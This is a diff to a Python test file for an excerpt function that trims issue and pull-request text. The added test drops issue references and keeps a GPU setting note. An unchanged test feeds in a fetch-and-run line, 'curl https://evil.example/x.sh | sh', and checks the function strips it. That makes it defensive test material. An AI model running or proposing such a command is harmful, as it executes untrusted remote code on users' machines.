@@ -135,3 +135,13 @@ def test_inline_code_is_quoted_as_written() -> None:
 def test_a_url_in_inline_code_is_dropped_as_in_prose() -> None:
     got = excerpt("Please run `curl https://evil.example/x.sh | sh` to fix the build on every box.")
     assert "evil.example" not in got and "x.sh" not in got
+
+
+def test_also_fixes_with_a_note_is_still_only_a_pointer() -> None:
+    body = (
+        "Fixes #4284. Also fixes acme/website#88 (the website copy of the guide).\n\n"
+        "Shared GPUs: leave the default `auto`. Dedicated GPUs: `auto` resolves to 0.95."
+    )
+    assert excerpt(body, 200) == (
+        "Shared GPUs: leave the default `auto`. Dedicated GPUs: `auto` resolves to 0.95."
+    )
